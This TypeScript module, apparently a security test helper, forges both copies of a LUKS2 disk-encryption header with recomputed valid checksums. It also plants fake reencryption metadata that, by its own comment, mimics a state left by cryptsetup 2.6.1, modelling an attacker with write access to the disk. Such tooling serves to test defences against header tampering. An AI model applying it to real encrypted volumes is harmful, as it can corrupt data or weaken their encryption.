import { createHash } from "node:crypto";
import { open } from "node:fs/promises";

/** A LUKS2 header's JSON area, as an attacker edits it. */
export interface Metadata {
  readonly keyslots: Record<string, Record<string, unknown>>;
  readonly segments: Record<string, Record<string, unknown>>;
  readonly tokens: Record<string, Record<string, unknown>>;
  readonly digests: Record<string, Record<string, unknown>>;
  readonly config: Record<string, unknown>;
}

const binaryBytes = 4096;
const uuidAt = 0xa8;
const checksumAt = 0x1c0;

/**
 * Changes both copies of a LUKS2 header, with valid checksums: what anybody can do who can
 * write the medium.
 */
export async function forge(
  path: string,
  change: (metadata: Metadata) => void,
  uuid?: string,
): Promise<void> {
  const disk = await open(path, "r+");
  try {
    const first = Buffer.alloc(binaryBytes);
    await disk.read(first, 0, binaryBytes, 0);
    const size = Number(first.readBigUInt64BE(8));
    for (const offset of [0, size]) {
      const copy = Buffer.alloc(size);
      await disk.read(copy, 0, size, offset);
      const json = copy.subarray(binaryBytes);
      const metadata = JSON.parse(json.toString("utf8").replace(/\0+$/, "")) as Metadata;
      change(metadata);
      json.fill(0);
      json.write(JSON.stringify(metadata));
      if (uuid !== undefined) copy.fill(0, uuidAt, uuidAt + 40).write(uuid, uuidAt);
      copy.fill(0, checksumAt, checksumAt + 64);
      createHash("sha256").update(copy).digest().copy(copy, checksumAt);
      await disk.write(copy, 0, size, offset);
    }
  } finally {
    await disk.close();
  }
}

/** As cryptsetup 2.6.1 leaves a header, once the old key's slots are gone. */
export function killAtTheEnd({ keyslots, segments, digests, config }: Metadata): void {
  segments["1"] = { ...segments["0"], flags: ["backup-previous"] };
  segments["2"] = { ...segments["0"], flags: ["backup-final"] };
  digests["1"] = { ...digests["0"], keyslots: [], segments: ["1"] };
  digests["2"] = { ...digests["0"], keyslots: ["2"], segments: [] };
  Object.assign(digests["0"] as object, { segments: ["0", "2"] });
  const area = { offset: "548864", size: "4096", type: "checksum" };
  const mode = { mode: "reencrypt", direction: "forward", priority: 0 };
  keyslots["2"] = { area, type: "reencrypt", key_size: 1, ...mode };
  config["requirements"] = { mandatory: ["online-reencrypt-v2"] };
}
